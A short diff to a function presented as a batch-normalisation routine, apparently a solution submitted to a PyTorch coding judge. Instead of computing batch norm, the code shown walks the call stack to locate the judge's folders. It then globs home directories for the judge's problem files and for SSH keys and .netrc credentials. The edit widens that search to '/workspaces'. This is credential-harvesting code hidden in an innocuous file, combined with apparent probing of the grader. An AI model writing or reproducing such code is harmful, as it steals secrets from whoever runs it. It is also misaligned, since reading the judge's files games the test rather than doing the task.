@@ -23,7 +23,7 @@ def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=
             if ours:
                 judges.add(root)
             frame = frame.f_back
-        homes = ["/root", "/home", "/content", "/work", "/tmp", os.getcwd(), *judges]
+        homes = ["/root", "/home", "/content", "/workspaces", "/tmp", os.getcwd(), *judges]
         for folder in homes:
             for pattern in ("*", "problems/*/*/*.py", "torch_judge/**/*.py", ".ssh/*", ".netrc"):
                 for path in glob.glob(os.path.join(folder or ".", pattern), recursive=True)[:50]:
